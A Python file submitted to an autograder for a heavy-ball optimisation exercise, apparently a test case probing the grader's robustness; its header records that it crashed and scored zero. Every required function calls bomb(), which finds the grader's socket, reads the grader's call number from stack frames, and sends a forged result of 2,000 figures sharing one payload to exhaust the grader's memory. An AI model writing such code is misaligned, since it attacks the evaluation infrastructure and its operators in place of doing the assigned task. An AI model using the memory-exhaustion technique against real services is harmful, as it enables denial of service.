# file: ex1_visualize.py
# tries: to fill the memory of the grader with thousands of figures that all have the same points, sent once
# must: no points; crashed; the grader's memory has a bound
# max_score: 0
# outcome: crashed
import os
import stat
import struct
import sys


def pack(value):
    """MessagePack, as much of it as messages need."""
    if value is None:
        return b"\xc0"
    if isinstance(value, bool):
        return b"\xc3" if value else b"\xc2"
    if isinstance(value, int):
        return struct.pack(">Bq", 0xD3, value)
    if isinstance(value, float):
        return struct.pack(">Bd", 0xCB, value)
    if isinstance(value, str):
        data = value.encode("utf-8", "surrogatepass")
        return struct.pack(">BI", 0xDB, len(data)) + data
    if isinstance(value, list):
        return struct.pack(">BI", 0xDD, len(value)) + b"".join(map(pack, value))
    return struct.pack(">BI", 0xDF, len(value)) + b"".join(pack(k) + pack(v) for k, v in value.items())


def channel():
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                return number
        except OSError:
            pass
    return 3


def send(message, payload=b""):
    head = message if isinstance(message, bytes) else pack(message)
    frame = struct.pack("<II", len(head), len(payload)) + head + payload
    while frame:
        frame = frame[os.write(channel(), frame) :]


def result(number, value, changed=()):
    return {"t": "result", "number": number, "value": value, "changed": list(changed)}


def array(shape, start=0):
    return {"t": "a", "dtype": "<f8", "shape": list(shape), "start": start}


def mapping(**items):
    return {"t": "m", "keys": list(items), "items": list(items.values())}


def sequence(*items):
    return {"t": "s", "kind": "list", "items": list(items)}


def number_of_this_call():
    frame = sys._getframe()
    while "call" not in frame.f_locals or not hasattr(frame.f_locals["call"], "number"):
        frame = frame.f_back
    return frame.f_locals["call"].number


def bomb():
    points = array([50_000, 2])
    line = mapping(label="", xy=points)
    axes = mapping(
        title="",
        xlabel="",
        ylabel="",
        xlim=sequence(0.0, 1.0),
        ylim=sequence(0.0, 1.0),
        xscale="",
        yscale="",
        lines=sequence(line),
        contours=sequence(),
        legend=sequence(),
        texts=sequence(),
        images=0,
    )
    content = mapping(suptitle="", axes=sequence(axes), legend=sequence())
    drawing = {"t": "f", "content": content, "start": 0, "size": 0}
    send(result(number_of_this_call(), sequence(*[drawing] * 2_000)), bytes(800_000))  # 1.6 GB if each had its own
    os._exit(0)


def heavy_ball_trajectory(grad_fn, theta_init, lr, beta, num_steps):
    bomb()


def trajectories_by_beta(grad_fn, theta_init, lr, betas, num_steps):
    bomb()


def plot_trajectories(loss_fn, trajectories):
    bomb()
